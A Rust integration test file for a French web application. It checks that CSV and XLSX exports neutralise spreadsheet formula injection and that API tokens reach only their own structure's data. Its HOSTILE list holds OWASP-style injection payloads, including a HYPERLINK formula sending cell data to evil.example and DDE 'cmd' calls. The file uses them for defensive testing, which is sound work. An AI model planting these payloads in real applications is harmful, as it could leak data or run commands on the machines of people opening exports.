//! Downloads: what they may hold and how it is written. Every CSV export
//! goes through the shared writer, so text people typed never reaches a
//! spreadsheet as a formula; XLSX writes it as a text cell.

mod common;

use common::{Client, call, world};

/// What a hostile visitor types, per OWASP's CSV injection page.
const HOSTILE: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
];

fn cells(csv_text: &str, delimiter: u8) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(csv_text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// No cell would run as a formula, and every hostile value typed is there,
/// neutralised by a leading `'`.
fn assert_neutralised(what: &str, csv_text: &str, delimiter: u8, expected: &[&str]) {
    let cells = cells(csv_text, delimiter);
    for cell in &cells {
        let first = cell.chars().next();
        let formula = matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
            || (first == Some('-') && !passerelle_csv::is_number(cell));
        assert!(!formula, "{what}: a cell would run as a formula: {cell:?}");
    }
    for value in expected {
        let neutralised = format!("'{value}");
        assert!(
            cells.iter().any(|c| c.contains(&neutralised)),
            "{what}: {neutralised:?} missing from\n{csv_text}"
        );
    }
}

#[tokio::test]
async fn the_audit_trail_export_neutralises_what_was_typed_at_sign_in() {
    let w = world().await;
    for value in HOSTILE {
        let form = serde_urlencoded::to_string([("email", value), ("password", "x")]).unwrap();
        let refused = call(
            &w.app,
            &Client::anonymous(),
            "POST",
            "/connexion",
            Some(&form),
        )
        .await;
        assert_ne!(refused.status.as_u16(), 303, "{value}");
    }
    let admin = Client::signed_in(&w.db, w.admin).await;
    let csv = call(&w.app, &admin, "GET", "/admin/journal.csv", None).await;
    assert_eq!(csv.status.as_u16(), 200);
    // The trail keeps the address as sign-in compares it: in lower case.
    let typed: Vec<String> = HOSTILE.iter().map(|v| v.to_lowercase()).collect();
    let typed: Vec<&str> = typed.iter().map(String::as_str).collect();
    assert_neutralised("journal", &csv.body, b',', &typed);
}

/// A questionnaire whose labels and "other" answers are hostile: the
/// responses file and the result tables neutralise them; the workbook
/// holds them as text, never as formulas.
#[tokio::test]
async fn survey_exports_neutralise_answers_and_labels() {
    let w = world().await;
    let questionnaire = format!(
        "id = \"hostile\"\ntitle = \"Essai\"\n\n[[questions]]\nid = \"q\"\ntype = \"single\"\n\
         text = \"Question\"\noptions = [{{ code = \"a\", label = {:?} }}, {{ code = \"b\", label = \"Bien\" }}]\n\
         other = \"Autre\"\n",
        HOSTILE[0]
    );
    let questionnaire = passerelle_surveys::Questionnaire::parse(&questionnaire, "hostile")
        .expect("a valid questionnaire");
    w.db.create_survey(
        &passerelle_store::surveys::NewSurvey {
            slug: "hostile",
            structure_id: w.a,
            questionnaire: &questionnaire,
            access: passerelle_store::surveys::Access::Open,
            opens_on: None,
            closes_on: None,
            status: passerelle_store::surveys::Status::Online,
        },
        &passerelle_store::write::Acting::system(),
    )
    .await
    .unwrap()
    .expect("a valid questionnaire");
    let anonymous = Client::anonymous();
    for answer in
        ["q=a".to_string()]
            .into_iter()
            .chain(HOSTILE.iter().map(|v| {
                serde_urlencoded::to_string([("q.other", *v), ("action", "envoyer")]).unwrap()
            }))
    {
        let form = if answer.contains("action=") {
            answer
        } else {
            format!("{answer}&action=envoyer")
        };
        let thanks = call(&w.app, &anonymous, "POST", "/enquetes/hostile", Some(&form)).await;
        assert_eq!(thanks.status.as_u16(), 200, "{form}: {}", thanks.body);
    }
    let membre = Client::signed_in(&w.db, w.membre_a).await;
    let responses = call(
        &w.app,
        &membre,
        "GET",
        "/enquetes/hostile/reponses.csv",
        None,
    )
    .await;
    assert_eq!(responses.status.as_u16(), 200);
    assert_neutralised("réponses", &responses.body, b',', &HOSTILE);
    let results = call(
        &w.app,
        &membre,
        "GET",
        "/enquetes/hostile/resultats.csv",
        None,
    )
    .await;
    assert_eq!(results.status.as_u16(), 200);
    assert_neutralised("résultats", &results.body, b';', &HOSTILE[..1]);
    let book = call(
        &w.app,
        &membre,
        "GET",
        "/enquetes/hostile/resultats.xlsx",
        None,
    )
    .await;
    assert_eq!(book.status.as_u16(), 200);
    {
        use calamine::{Data, Reader, Xlsx};
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(book.bytes.clone())).unwrap();
        let mut seen = false;
        for name in book.sheet_names() {
            let formulas = book.worksheet_formula(&name).unwrap();
            assert!(
                formulas.used_cells().all(|(_, _, f)| f.is_empty()),
                "{name}: no formula in the workbook"
            );
            let range = book.worksheet_range(&name).unwrap();
            seen |= range
                .used_cells()
                .any(|(_, _, c)| *c == Data::String(HOSTILE[0].to_string()));
        }
        assert!(seen, "the label is a text cell, as typed");
    }
}

/// How an export route must answer a structure's API token.
#[derive(Debug, Clone, Copy)]
enum WithToken {
    /// 401, 403 or 404: tokens are not for this.
    Denied,
    /// Public data: exactly what an anonymous visitor gets.
    Public,
    /// The token's own structure's data and nobody else's.
    Own,
}

/// Every route that hands out data to download or read by machine: CSV,
/// XLSX, GeoJSON, JSON, the printable sheet, a person's data.
fn is_export(path: &str) -> bool {
    [".csv", ".xlsx", ".geojson", ".json", ".sps", ".dat"]
        .iter()
        .any(|ext| path.ends_with(ext))
        || path.starts_with("/api/v1/")
        || path == "/health"
        || path.ends_with("/donnees")
        || path.ends_with("/fiche")
}

fn expectation(path: &str) -> Option<WithToken> {
    use WithToken::*;
    Some(match path {
        "/admin/journal.csv"
        | "/orientations/statistiques.csv"
        | "/orientations/statistiques.xlsx"
        | "/orientations/{id}/donnees"
        | "/enquetes/{slug}/resultats.csv"
        | "/enquetes/{slug}/resultats.xlsx"
        | "/enquetes/{slug}/reponses.csv"
        | "/enquetes/{slug}/reponses.sps"
        | "/enquetes/{slug}/reponses.dat"
        | "/api/v1/structures/{id}"
        | "/reseau/annuaire.geojson"
        | "/reseau/evenements/{id}/participants.csv"
        | "/reseau/evenements/{id}/participants.xlsx" => Denied,
        "/activites/tableau-de-bord.csv"
        | "/activites/tableau-de-bord.xlsx"
        | "/activites/statistiques.csv"
        | "/api/v1/activities/stats"
        | "/api/v1/me" => Own,
        "/health"
        | "/api/v1/openapi.json"
        | "/api/v1/territories/communes"
        | "/api/v1/territories/communes/{code}"
        | "/api/v1/territories/epci/{siren}"
        | "/api/v1/territories/departements/{code}"
        | "/api/v1/territories/regions/{code}"
        | "/api/v1/places"
        | "/api/v1/places.geojson"
        | "/api/v1/places/{id}"
        | "/api/v1/places/data-inclusion"
        | "/api/v1/open/places"
        | "/api/v1/open/activities"
        | "/lieux/{id}/fiche"
        | "/lieux/export.csv"
        | "/diagnostic/communes.csv"
        | "/diagnostic/territoires.csv"
        | "/diagnostic/acces.csv"
        | "/diagnostic/rapport.xlsx"
        | "/diagnostic/comparer.csv"
        | "/diagnostic/comparer.xlsx"
        | "/diagnostic/communes.geojson"
        | "/diagnostic/lieux.geojson"
        | "/api/v1/diagnostic" => Public,
        _ => return None,
    })
}

/// Every cell of every sheet of a workbook, as text.
fn workbook_text(bytes: &[u8]) -> String {
    use calamine::{Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut text = String::new();
    for name in book.sheet_names() {
        for (_, _, cell) in book.worksheet_range(&name).unwrap().used_cells() {
            text.push_str(&format!("{cell}\n"));
        }
    }
    text
}

/// M2: a structure's API token downloads only its own structure's data,
/// or public data, or is refused — on every export route of the registry.
/// Structure A and B have records; C has none.
#[tokio::test]
async fn api_tokens_download_only_their_structure_s_data_on_every_export_route() {
    let w = world().await;
    let c =
        w.db.create_structure(&passerelle_store::accounts::NewStructure {
            nom: "Espace numérique de Brest",
            kind: passerelle_accounts::StructureKind::Autre,
            siret: None,
            commune_code: Some("29019"),
        })
        .await
        .unwrap()
        .unwrap();
    let (_, token_c) =
        w.db.create_api_token(
            &passerelle_store::write::Acting::system(),
            c,
            "Jeton C",
            w.admin,
        )
        .await
        .unwrap();
    // A's records are about procedures, B's about e-mail.
    let record = |theme: &str| {
        format!(
            r#"{{"kind":"individuel","date":"2026-03-02","duration_minutes":45,"place":{{"kind":"distance"}},
            "workshop_title":null,"level":null,"participants":1,"ages":[],"statuses":[],
            "residence_commune":"29232","follow_up_code":null,"themes":["{theme}"],"organisation":null,
            "kinds_of_help":[],"autonomy":null,"equipment":null,"orientation":null}}"#
        )
    };
    for (token, theme) in [(&w.token_a, "Démarche en ligne"), (&w.token_b, "Courriels")] {
        let request = axum::http::Request::post("/api/v1/activities")
            .header("content-type", "application/json")
            .header("authorization", format!("Bearer {token}"))
            .body(axum::body::Body::from(record(theme)))
            .unwrap();
        let (status, body) = common::send_json(&w.app, request).await;
        assert_eq!(status, 200, "{body}");
    }
    let mediator = Client::signed_in(&w.db, w.membre_a).await;
    let form = "type=individuel&date=2026-03-03&duree=30&lieu=autre&commune=29232\
        &themes=D%C3%A9marche+en+ligne";
    assert_eq!(
        call(&w.app, &mediator, "POST", "/activites", Some(form))
            .await
            .status
            .as_u16(),
        303
    );

    let concrete = |path: &str| -> String {
        let path = path
            .replace("/communes/{code}", "/communes/29232")
            .replace("{siren}", "200068120")
            .replace("/departements/{code}", "/departements/29")
            .replace("/regions/{code}", "/regions/53")
            .replace("/structures/{id}", &format!("/structures/{}", w.a))
            .replace("/places/{id}", &format!("/places/{}", w.place_a))
            .replace("/lieux/{id}", &format!("/lieux/{}", w.place_a))
            .replace(
                "/orientations/{id}",
                &format!("/orientations/{}", w.referral_a),
            )
            .replace("/evenements/{id}", "/evenements/1")
            .replace("{slug}", w.survey_a);
        let query = if path.starts_with("/diagnostic") || path == "/api/v1/diagnostic" {
            "?territoire=epci:200068120"
        } else if path == "/api/v1/open/activities" {
            "?territory=dep:29&from=2025-01&to=2025-12"
        } else if path == "/api/v1/territories/communes" {
            "?q=quimper"
        } else if path.starts_with("/activites/") {
            "?annee=2026"
        } else {
            ""
        };
        format!("{path}{query}")
    };
    let anonymous = Client::anonymous();
    let mut checked = 0;
    for (method, path) in passerelle_web::route_table() {
        if method != axum::http::Method::GET || !is_export(path) {
            continue;
        }
        let expected = expectation(path)
            .unwrap_or_else(|| panic!("{path}: say what an API token may download there"));
        let uri = concrete(path);
        for (who, token, id) in [("B", &w.token_b, w.b), ("C, no records", &token_c, c)] {
            let answer = call(&w.app, &Client::bearer(token), "GET", &uri, None).await;
            let status = answer.status.as_u16();
            let text = if uri.contains(".xlsx") && status == 200 {
                workbook_text(&answer.bytes)
            } else {
                answer.body.clone()
            };
            match expected {
                WithToken::Denied => assert!(
                    [401, 403, 404].contains(&status),
                    "{uri} with the token of {who}: {status}"
                ),
                WithToken::Public => {
                    let public = call(&w.app, &anonymous, "GET", &uri, None).await;
                    assert_eq!(status, public.status.as_u16(), "{uri}");
                    if uri.contains(".xlsx") {
                        assert_eq!(text, workbook_text(&public.bytes), "{uri}");
                    } else {
                        assert_eq!(text, public.body, "{uri}: public data, nothing more");
                    }
                }
                WithToken::Own if path == "/api/v1/me" => {
                    assert_eq!(status, 200, "{uri}");
                    assert!(text.contains(&format!("\"structure_id\":{id},")), "{text}");
                }
                WithToken::Own => {
                    assert_eq!(
                        status, 200,
                        "{uri} with the token of {who}: {}",
                        answer.body
                    );
                    assert!(
                        !text.contains("Démarche en ligne")
                            && !text.contains(&format!("structure_id\":{}", w.a))
                            && !text.contains(&format!("structure={}", w.a)),
                        "{uri} with the token of {who} shows A's data:\n{text}"
                    );
                    let own_theme = text.contains("Courriels");
                    assert_eq!(
                        own_theme,
                        who == "B",
                        "{uri} with the token of {who}:\n{text}"
                    );
                }
            }
        }
        checked += 1;
    }
    assert!(checked >= 25, "{checked} export routes checked");
    // And A's token sees A's figures: both its API record and none of
    // B's.
    let own = call(
        &w.app,
        &Client::bearer(&w.token_a),
        "GET",
        "/activites/tableau-de-bord.csv?annee=2026",
        None,
    )
    .await;
    assert!(
        own.body.contains("Démarche en ligne") && !own.body.contains("Courriels"),
        "{}",
        own.body
    );
}
